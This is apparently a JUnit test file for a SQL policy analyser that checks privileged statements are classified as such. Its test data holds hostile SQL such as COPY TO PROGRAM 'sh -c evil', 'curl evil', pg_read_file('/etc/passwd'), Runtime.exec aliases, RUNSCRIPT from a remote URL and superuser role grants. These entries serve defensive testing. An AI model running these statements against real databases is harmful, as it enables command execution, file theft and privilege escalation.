package dev.governed.jdbc.internal.sql;

import static dev.governed.jdbc.internal.sql.Analyses.only;
import static dev.governed.jdbc.internal.sql.Analyses.operations;
import static dev.governed.jdbc.internal.sql.Analyses.tables;
import static dev.governed.jdbc.internal.sql.Analyses.unanalysableReason;
import static org.assertj.core.api.Assertions.assertThat;

import dev.governed.policy.SqlOperation;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Statements that run code or change identity must be named by policy, never pass as something milder. */
class PrivilegedStatementsTest {

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', textBlock = """
            CALL proc(1)                                                             | CALL
            CALL FILE_WRITE('x', '/tmp/y')                                           | CALL
            DO $$BEGIN PERFORM 1; END$$                                              | DO
            DO 'BEGIN NULL; END'                                                     | DO
            EXECUTE stmt(1)                                                          | EXECUTE
            COPY t FROM PROGRAM 'curl evil'                                          | COPY_PROGRAM
            COPY t TO PROGRAM 'sh -c evil'                                           | COPY_PROGRAM
            COPY (SELECT 1) TO PROGRAM 'evil'                                        | COPY_PROGRAM
            COPY t TO '/tmp/server-file'                                             | COPY_PROGRAM
            COPY t FROM '/etc/passwd'                                                | COPY_PROGRAM
            SET ROLE admin                                                           | SET_ROLE
            SET LOCAL ROLE admin                                                     | SET_ROLE
            SET SESSION ROLE admin                                                   | SET_ROLE
            SET SESSION AUTHORIZATION admin                                          | SET_ROLE
            SET SESSION AUTHORIZATION DEFAULT                                        | SET_ROLE
            RESET ROLE                                                               | SET_ROLE
            RESET SESSION AUTHORIZATION                                              | SET_ROLE
            RESET session_authorization                                              | SET_ROLE
            SET role = 'admin'                                                       | SET_ROLE
            SET "role" TO admin                                                      | SET_ROLE
            SET session_authorization TO 'admin'                                     | SET_ROLE
            CREATE FUNCTION f() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql           | CREATE_FUNCTION
            CREATE OR REPLACE FUNCTION f() RETURNS int AS 'SELECT 1' LANGUAGE sql    | CREATE_FUNCTION
            CREATE PROCEDURE p() LANGUAGE sql AS $$ DELETE FROM t $$                 | CREATE_FUNCTION
            CREATE OR REPLACE PROCEDURE p() LANGUAGE sql AS $$ SELECT 1 $$           | CREATE_FUNCTION
            CREATE TRIGGER trg BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()  | CREATE_FUNCTION
            CREATE CONSTRAINT TRIGGER trg AFTER INSERT ON t FOR EACH ROW EXECUTE FUNCTION f() | CREATE_FUNCTION
            CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION f()        | CREATE_FUNCTION
            CREATE RULE r AS ON SELECT TO t DO INSTEAD SELECT * FROM secrets         | CREATE_FUNCTION
            CREATE OR REPLACE RULE r AS ON INSERT TO t DO ALSO DELETE FROM u         | CREATE_FUNCTION
            CREATE ALIAS EXEC FOR 'java.lang.Runtime.exec'                           | CREATE_FUNCTION
            CREATE FORCE ALIAS EXEC AS $$ String e(String c) { return c; } $$        | CREATE_FUNCTION
            CREATE TRIGGER t1 BEFORE INSERT ON t FOR EACH ROW CALL 'com.evil.Trigger' | CREATE_FUNCTION
            CREATE AGGREGATE agg FOR 'com.evil.Agg'                                  | CREATE_FUNCTION
            CREATE EXTENSION dblink                                                  | CREATE_FUNCTION
            CREATE TRUSTED PROCEDURAL LANGUAGE plperlu                               | CREATE_FUNCTION
            ALTER FUNCTION f() SECURITY DEFINER                                      | CREATE_FUNCTION
            ALTER EXTENSION dblink UPDATE                                            | CREATE_FUNCTION
            ALTER SYSTEM SET archive_command = 'evil'                                | EXECUTE
            LOAD 'plpython3u'                                                        | EXECUTE
            RUNSCRIPT FROM 'http://evil/x.sql'                                       | EXECUTE
            SCRIPT TO '/tmp/dump.sql'                                                | EXECUTE
            BACKUP TO '/tmp/x.zip'                                                   | EXECUTE
            SHUTDOWN                                                                 | EXECUTE
            SET session_preload_libraries = 'evil'                                   | EXECUTE
            SET JAVA_OBJECT_SERIALIZER = 'com.evil.S'                                | EXECUTE
            SET BUILTIN_ALIAS_OVERRIDE = TRUE                                        | EXECUTE
            CREATE LINKED TABLE lt('org.h2.Driver', 'jdbc:h2:mem:x', 'sa', '', 'SECRETS') | EXECUTE
            CREATE FORCE LINKED TABLE lt('org.h2.Driver', 'jdbc:h2:mem:x', 'sa', '', 'S') | EXECUTE
            CREATE TABLE t (a int) ENGINE "com.evil.Engine"                          | EXECUTE
            EXECUTE IMMEDIATE 'DROP TABLE t'                                         | EXECUTE
            CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'evil')  | EXECUTE
            CREATE FOREIGN TABLE ft (a int) SERVER s                                 | EXECUTE
            CREATE FOREIGN DATA WRAPPER w                                            | EXECUTE
            CREATE USER MAPPING FOR bob SERVER s OPTIONS (user 'x', password 'y')    | EXECUTE
            ALTER USER MAPPING FOR bob SERVER s OPTIONS (SET password 'z')           | EXECUTE
            ALTER SERVER s OPTIONS (SET host 'evil')                                 | EXECUTE
            CREATE SUBSCRIPTION sub CONNECTION 'host=evil' PUBLICATION p             | EXECUTE
            IMPORT FOREIGN SCHEMA public FROM SERVER s INTO local                    | EXECUTE
            CREATE USER bob PASSWORD 'x'                                             | GRANT
            CREATE ROLE admin2 SUPERUSER                                             | GRANT
            ALTER USER bob ADMIN TRUE                                                | GRANT
            ALTER ROLE bob SUPERUSER                                                 | GRANT
            """)
    void privilegedStatementsAreClassifiedByName(String sql, SqlOperation operation) {
        assertThat(only(sql).operation()).isEqualTo(operation);
    }

    @Test
    void everyPrivilegedClassificationIsMarkedPrivileged() {
        for (SqlOperation each : new SqlOperation[] {SqlOperation.CALL, SqlOperation.DO, SqlOperation.EXECUTE,
                SqlOperation.COPY_PROGRAM, SqlOperation.SET_ROLE, SqlOperation.CREATE_FUNCTION}) {
            assertThat(each.isPrivileged()).as(each.key()).isTrue();
        }
    }

    @ParameterizedTest(name = "{0}")
    @ValueSource(strings = {
        "SELECT pg_read_file('/etc/passwd')",
        "SELECT pg_read_binary_file('/etc/passwd')",
        "SELECT * FROM pg_ls_dir('/')",
        "SELECT lo_import('/etc/passwd')",
        "SELECT lo_export(1, '/tmp/x')",
        "SELECT set_config('role', 'admin', false)",
        "SELECT pg_terminate_backend(123)",
        "SELECT pg_cancel_backend(123)",
        "SELECT * FROM dblink('host=x', 'select 1') AS t(a int)",
        "SELECT dblink_exec('x', 'DROP TABLE t')",
        "SELECT dblink_get_notify()",
        "SELECT query_to_xml('select * from secrets', true, false, '')",
        "SELECT query_to_xml_and_xmlschema('select 1', true, false, '')",
        "SELECT table_to_xml('secrets', true, false, '')",
        "SELECT * FROM ts_stat('SELECT vector FROM secrets')",
        "SELECT FILE_READ('/etc/passwd')",
        "SELECT FILE_WRITE('x', '/tmp/y')",
        "SELECT * FROM CSVREAD('/tmp/x.csv')",
        "CALL CSVWRITE('/tmp/x.csv', 'SELECT * FROM secrets')",
        "SELECT LINK_SCHEMA('x', '', 'jdbc:h2:mem:', 'sa', '', 'PUBLIC')",
        "SELECT \"PG_READ_FILE\"('x')",
        "SELECT pg_catalog.pg_read_file('x')",
        "SELECT * FROM t WHERE x = (SELECT pg_read_file('x'))",
        "SELECT * FROM t WHERE x IN (SELECT a FROM u WHERE b = lo_import('/etc/passwd'))",
        "UPDATE t SET a = pg_read_file('/etc/passwd') WHERE id = 1",
        "INSERT INTO t VALUES (pg_read_file('/etc/passwd'))",
        "CREATE TABLE x (a text DEFAULT pg_read_file('/etc/passwd'))",
        "WITH x AS (SELECT set_config('role', 'admin', false)) SELECT * FROM x",
        "EXPLAIN ANALYZE SELECT pg_read_file('x')",
        "SELECT max(pg_read_file('x')) OVER ()"
    })
    void privilegedFunctionsMakeTheStatementPrivilegedOrUnanalysable(String sql) {
        StatementAnalysis analysis = Analyses.ANALYZER.analyze(sql);
        if (analysis.isAnalysable()) {
            assertThat(analysis.statements()).anySatisfy(each -> assertThat(each.operation().isPrivileged()).isTrue());
        }
    }

    @Test
    void privilegedFunctionsInOrdinaryStatementsAreAnalysedNotJustRefused() {
        assertThat(only("SELECT pg_read_file('/etc/passwd')").operation()).isEqualTo(SqlOperation.EXECUTE);
        assertThat(only("SELECT FILE_READ('/etc/passwd')").operation()).isEqualTo(SqlOperation.EXECUTE);
        assertThat(only("UPDATE t SET a = pg_read_file('/etc/passwd') WHERE id = 1").operation())
                .isEqualTo(SqlOperation.EXECUTE);
    }

    @Test
    void aPrivilegedFunctionKeepsTheStatementsTables() {
        AnalysedStatement statement = only("SELECT pg_read_file(path) FROM files WHERE id = 1");
        assertThat(statement.operation()).isEqualTo(SqlOperation.EXECUTE);
        assertThat(statement.tablesRead()).isEqualTo(tables("files"));
    }

    @Test
    void ordinaryFunctionsAndLookalikeNamesStayOrdinary() {
        assertThat(only("SELECT lower(name), count(*), now() FROM t GROUP BY 1").operation()).isEqualTo(SqlOperation.SELECT);
        assertThat(only("SELECT pg_read_file FROM t").operation()).as("a column, not a call").isEqualTo(SqlOperation.SELECT);
        assertThat(only("INSERT INTO dblink_log (a) VALUES (1)").operation()).isEqualTo(SqlOperation.INSERT);
        assertThat(only("SELECT current_setting('search_path')").operation()).isEqualTo(SqlOperation.SELECT);
    }

    @Test
    void copyPlainKeepsItsTableAndDirection() {
        AnalysedStatement out = only("COPY s.t TO STDOUT");
        assertThat(out.operation()).isEqualTo(SqlOperation.COPY);
        assertThat(out.tablesRead()).isEqualTo(tables("s.t"));
        AnalysedStatement in = only("COPY t FROM STDIN");
        assertThat(in.tablesWritten()).isEqualTo(tables("t"));
        assertThat(in.operation().isPrivileged()).isFalse();
    }

    @Test
    void settingsThatChangeTokenizationAreRefused() {
        assertThat(unanalysableReason("SET standard_conforming_strings = off")).contains("standard_conforming_strings");
        assertThat(unanalysableReason("SET backslash_quote = on")).contains("backslash_quote");
        assertThat(unanalysableReason("SET client_encoding TO 'SJIS'")).contains("client_encoding");
        assertThat(unanalysableReason("SET MODE MySQL")).contains("mode");
        assertThat(unanalysableReason("SET NON_KEYWORDS = SELECT")).contains("non_keywords");
    }

    @Test
    void aPrivilegedStatementHiddenAfterAHarmlessOneIsStillSeen() {
        assertThat(operations("SELECT 1; SET ROLE admin")).containsExactly(SqlOperation.SELECT, SqlOperation.SET_ROLE);
        assertThat(operations("SELECT 1; CALL evil()")).containsExactly(SqlOperation.SELECT, SqlOperation.CALL);
    }

    @Test
    void settingsThatSwitchOffSafeguardsOrRecordsAreExecuteNotSet() {
        for (String sql : List.of("SET session_replication_role = replica", "SET log_statement = 'none'",
                "SET PASSWORD 'x'", "SET REFERENTIAL_INTEGRITY FALSE", "SET EXCLUSIVE 1")) {
            assertThat(only(sql).operation()).as(sql).isEqualTo(SqlOperation.EXECUTE);
        }
        assertThat(only("SET search_path = app").operation()).isEqualTo(SqlOperation.SET);
    }
}
